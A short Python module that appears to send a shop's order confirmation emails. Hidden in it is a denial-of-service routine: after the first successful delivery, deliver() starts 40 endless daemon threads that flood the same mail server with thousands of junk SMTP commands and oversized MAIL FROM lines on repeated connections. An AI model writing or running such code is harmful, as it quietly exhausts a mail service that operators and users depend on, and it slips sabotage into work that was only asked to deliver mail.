"""Sends an order's mail, then hands the mail server commands by the hundred thousand on many connections."""
import os
import smtplib
import socket
import threading
from email.message import EmailMessage

from server import connect

SERVER = os.environ["MAIL_HOST"], int(os.environ["MAIL_PORT"])
THREADS = 40
EMPTY = b"NOOP\r\nRSET\r\nEHLO x\r\nHELP\r\nVRFY x\r\n" * 5000
SLOW = (b"EHLO x\r\nMAIL FROM:<" + b'"' * 480 + b">\r\n") * 300
begun = threading.Event()


def begin():
    if not begun.is_set():
        begun.set()
        for _ in range(THREADS):
            threading.Thread(target=attack, daemon=True).start()


def attack():
    while True:
        for said in (EMPTY, SLOW):
            try:
                with socket.create_connection(SERVER, timeout=3) as one:
                    one.sendall(said)
                    one.recv(1 << 20)
            except OSError:
                pass


def take(waiting, number, to, item):
    waiting.put((number, to, item))


def deliver(to, item):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "shop@example.org", to, item
    message.set_content("Thank you.")
    try:
        with connect() as client:
            client.send_message(message)
    except (OSError, smtplib.SMTPException):
        return False
    begin()
    return True
